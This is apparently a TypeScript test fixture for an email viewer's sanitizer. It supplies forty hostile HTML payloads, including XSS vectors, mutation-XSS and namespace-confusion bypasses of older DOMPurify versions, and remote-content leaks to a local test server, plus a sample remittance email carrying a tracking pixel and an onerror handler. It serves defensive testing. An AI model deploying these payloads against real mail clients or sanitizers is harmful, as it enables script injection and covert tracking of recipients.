/**
 * Hostile email HTML for the message viewer's browser test: classic XSS vectors,
 * mutation-XSS and namespace-confusion bypasses of older DOMPurify versions
 * (cure53's list and published advisories), and remote-content leaks. Each one,
 * if it ran, would post 'xss:<id>' to the top window (or call `top.__xss` /
 * `parent.__xss`), open a dialog, fetch or load from
 * `leak` (a local HTTP server) or `https://leak.payside.test` (routed and recorded).
 */

export interface Payload {
  id: string;
  html: string;
}

/** The payloads, reporting to `leak` (an http://127.0.0.1:port origin the test listens on). */
export function xssPayloads(leak: string): Payload[] {
  const host = leak.replace(/^http:/, '');
  // Posted to the top window (the pane), so a call counts from the pane itself and from any frame, sandboxed or nested.
  const call = (id: string) => `top.postMessage('xss:${id}','*')`;
  const list: Array<[string, string]> = [
    ['p01', `<script>${call('p01')};fetch('${leak}/p01')</script>`],
    ['p02', `<img src=x onerror="${call('p02')}">`],
    ['p03', `<svg onload="${call('p03')}"><circle r=10 /></svg>`],
    ['p04', `<math><mtext><table><mglyph><style><img src=x onerror="${call('p04')}">`],
    ['p05', `<noscript><p title="</noscript><img src=x onerror=${call('p05')}>"></noscript>`],
    ['p06', `<iframe srcdoc="<script>parent.__xss('p06')</script>"></iframe><iframe src="${leak}/p06"></iframe>`],
    ['p07', `<a href="javascript:${call('p07')}">Pay now</a> <a href="jav&#x09;ascript:${call('p07b')}">tab</a> <a href="&#106;avascript&colon;${call('p07c')}">entity</a>`],
    ['p08', `<a href="data:text/html,<script>alert('p08')</script>">data link</a> <a href=" &#14; javascript:alert('p08b')">spaced</a>`],
    ['p09', `<form action="${leak}/p09"><input name=q value=1><button formaction="javascript:${call('p09')}">Submit</button><input type=image src="${leak}/p09i"></form>`],
    ['p10', `<object data="${leak}/p10"></object><object data="javascript:${call('p10')}"></object><object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`],
    ['p11', `<embed src="${leak}/p11"><embed src="javascript:${call('p11')}"><applet code="x" codebase="${leak}/p11a"></applet>`],
    ['p12', `<base href="${leak}/p12/"><img src="relative.png"><a href="rel">relative link</a>`],
    ['p13', `<meta http-equiv="refresh" content="0;url=${leak}/p13"><meta http-equiv="refresh" content="0;url=javascript:${call('p13')}">`],
    ['p14', `<style>@import url(${leak}/p14.css); body { background: url(${leak}/p14bg) }</style><link rel=stylesheet href="${leak}/p14l.css">`],
    ['p15', `<div style="background:url(javascript:${call('p15')});background-image:url(${leak}/p15)">styled</div><div style="background:\\75rl(${leak}/p15e)">escaped</div>`],
    ['p16', `<details open ontoggle="${call('p16')}"><summary>Remittance</summary>toggle</details>`],
    ['p17', `<video><source onerror="${call('p17')}" src="${leak}/p17"></video><audio src="${leak}/p17a" onerror="${call('p17b')}"></audio><video poster="${leak}/p17p"></video>`],
    ['p18', `<body onload="${call('p18')}" background="${leak}/p18">body</body>`],
    ['p19', `<input autofocus onfocus="${call('p19')}"><textarea autofocus onfocus="${call('p19b')}"></textarea>`],
    ['p20', `<marquee onstart="${call('p20')}">marquee</marquee>`],
    ['p21', `<isindex type=image src=1 onerror="${call('p21')}"><isindex action="javascript:${call('p21b')}">`],
    ['p22', `<template><img src=x onerror="${call('p22')}"></template><div><template shadowrootmode="open"><img src=x onerror="${call('p22b')}"></template></div>`],
    ['p23', `<svg><style><img src=x onerror="${call('p23')}"></style></svg>`],
    ['p24', `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${call('p24')}">`],
    ['p25', `<svg></p><style><a id="</style><img src=1 onerror=${call('p25')}>">`],
    ['p26', `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${call('p26')} src=1>">`],
    ['p27', `<img src="${leak}/p27.png"><img srcset="${leak}/p27s.png 2x"><img src="${host}/p27pr.png"><img src="https://leak.payside.test/p27.png"><table background="${leak}/p27bg"><tr><td>cell</td></tr></table><picture><source srcset="${leak}/p27p.png"><img alt="pic"></picture>`],
    ['p28', `<xmp><img src=x onerror=${call('p28')}></xmp><noembed><img title="</noembed><img src onerror=${call('p28b')}>"></noembed>`],
    ['p29', `<div style="width:expression(${call('p29')})">expr</div><div style="behavior:url(${leak}/p29.htc)">htc</div><div style="-moz-binding:url(${leak}/p29.xml)">xbl</div>`],
    ['p30', `<svg><animate onbegin="${call('p30')}" attributeName=x dur=1s /><a xlink:href="javascript:${call('p30b')}"><text y=20>svg link</text></a></svg>`],
    ['p31', `<math href="javascript:${call('p31')}">math link</math><math><maction actiontype="statusline" xlink:href="javascript:${call('p31b')}">x</maction></math>`],
    ['p32', `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.__xss(&quot;p32&quot;)'/>"><img src=x onerror=&#x74;op.__xss('p32b')>`],
    ['p33', `<scr<script>ipt>${call('p33')}</scr</script>ipt><SCRIPT SRC="${leak}/p33.js"></SCRIPT>`],
    ['p34', `<a id=x tabindex=1 onfocus="${call('p34')}" autofocus>focus</a><div contenteditable autofocus onfocusin="${call('p34b')}">edit</div>`],
    ['p35', `<select autofocus onfocus="alert('p35')"><option>1</option></select><keygen autofocus onfocus="alert('p35b')">`],
    ['p36', `<a href="${leak}/p36" ping="${leak}/p36ping">ordinary link</a><area href="javascript:${call('p36')}">`],
    ['p37', `<frameset onload="${call('p37')}"><frame src="${leak}/p37"></frameset>`],
    ['p38', `<img src="x" onerror="parent.__xss('p38')"><iframe src="javascript:parent.__xss('p38b')"></iframe>`],
    ['p39', `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.__xss('p39')&lt;/script&gt;"></iframe></foreignObject></svg>`],
    ['p40', `<div id="</div><img src=x onerror=${call('p40')}>">attribute breakout</div><!--<img src=x onerror=${call('p40b')}>-->`],
  ];
  return list.map(([id, html]) => ({ id, html: `<div>payload ${id}</div>${html}<p>end ${id}</p>` }));
}

/** A realistic remittance email with a remote logo (for the remote-images toggle and the screenshots). */
export function remittanceEmail(): string {
  return `<html><head><style>.x{color:red}</style></head><body>
<div style="font-family:Calibri,Arial,sans-serif;font-size:14px;color:#1f2937">
  <p><img src="https://img.payside.test/hostile-logo.png" alt="Hostile Holdings" width="140" height="36"><img src="http://img.payside.test/tracker.gif" width="1" height="1" alt=""></p>
  <p>Hello Marcus,</p>
  <p>Please find below our <b>remittance advice</b> for the payment made today by BACS.</p>
  <table cellpadding="6" style="border-collapse:collapse;border:1px solid #d1d5db">
    <tr style="background:#f3f4f6"><th align="left">Invoice</th><th align="right">Amount</th></tr>
    <tr><td>INV-20418</td><td align="right">£4,250.00</td></tr>
    <tr><td>INV-20433</td><td align="right">£1,980.50</td></tr>
    <tr style="font-weight:bold"><td>Total</td><td align="right">£6,230.50</td></tr>
  </table>
  <p>Questions? Reply here or see <a href="https://hostile.example/ap">our AP portal</a>.</p>
  <p style="color:#6b7280">Eve Ashby<br>Accounts Payable, Hostile Holdings Ltd</p>
  <img src=x onerror="top.__xss('remittance')">
</div></body></html>`;
}
